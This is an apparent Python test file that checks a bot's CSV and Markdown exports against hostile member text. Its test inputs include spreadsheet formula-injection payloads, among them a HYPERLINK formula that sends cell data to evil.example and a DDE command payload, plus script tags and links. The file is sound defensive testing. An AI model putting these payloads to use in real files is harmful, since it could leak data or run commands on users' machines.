"""CSV a spreadsheet cannot run and Markdown that renders as the text typed, with hostile
member text: formulas, `<every>`, `###`, links, ANSI codes, right-to-left overrides.
Markdown is rendered with markdown-it-py (CommonMark) to prove nothing became markup."""

from __future__ import annotations

import csv
import html
import io

from hypothesis import given, settings
from markdown_it import MarkdownIt

from bot.exports import Cell, md_escape, spreadsheet_csv
from bot.typed_text import clean_typed
from tests.hostile.strategies import hostile_text

FORMULAS = [
    '=HYPERLINK("https://evil.example/?q="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_cells_get_a_quote_and_every_text_cell_is_quoted() -> None:
    formulas: list[list[Cell]] = [[f, 1] for f in FORMULAS]
    text = spreadsheet_csv([["option", "votes"], *formulas, ["NHS", 2]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["option", "votes"]
    assert [row[0] for row in rows[1:-1]] == ["'" + clean_typed(f) for f in FORMULAS]
    assert rows[-1] == ["NHS", "2"]
    assert text.startswith('"option","votes"\r\n')
    assert '"NHS",2\r\n' in text  # numbers the bot counted stay numbers
    assert '"\'-2+3",1\r\n' in text  # quoted: a spreadsheet splitting on ; keeps it whole


def test_control_and_bidi_characters_are_gone_from_cells() -> None:
    text = spreadsheet_csv([["\x1b[31mred\x1b[0m \u202eevil\u202c \x07", None, True]])
    assert text == '"[31mred[0m evil ","",True\r\n'


MARKUP = [
    ("<every>", "<every>"),
    ("### heading", "### heading"),
    ("**bold** _it_ `code` ~~gone~~", "**bold** _it_ `code` ~~gone~~"),
    ("[link](https://evil.example)", "[link](https://evil.example)"),
    ("![img](https://evil.example/x.png)", "![img](https://evil.example/x.png)"),
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("- a list\n+ another\n1. numbered\n2) too", "- a list\n+ another\n1. numbered\n2) too"),
    ("Title\n===", "Title\n==="),
    ("Rule\n---", "Rule\n---"),
    ("> quoted", "> quoted"),
    ("| a | b |\n|---|---|", "| a | b |\n|---|---|"),
    ("&amp; &#65; & co", "&amp; &#65; & co"),
    ("\x1b[31mred\u202e", "[31mred"),
    ("    indented\n\tcode", "indented\ncode"),
    ("  - indented list", "- indented list"),
]


def rendered(markdown: str) -> str:
    html_out: str = (
        MarkdownIt("commonmark").enable("table").enable("strikethrough").render(markdown)
    )
    return html_out


def test_markdown_renders_member_text_as_typed() -> None:
    for typed, shown in MARKUP:
        out = rendered(md_escape(typed))
        assert out.startswith("<p>"), (typed, out)
        assert out.count("<") == out.count("</p>") * 2 + out.count("<br />"), (typed, out)
        assert html.unescape(out.replace("<p>", "").replace("</p>", "")).strip() == shown


def test_a_span_in_the_middle_of_a_line_keeps_its_space() -> None:
    assert md_escape(" said: hello") == " said: hello"


@settings(deadline=None, derandomize=True, max_examples=300)
@given(hostile_text())
def test_no_hostile_text_becomes_markup(typed: str) -> None:
    out = rendered(md_escape(typed))
    tags = {tag.split(">")[0].split(" ")[0] for tag in out.split("<")[1:]}
    assert tags <= {"p", "/p", "br", "br /"}, (typed, out)
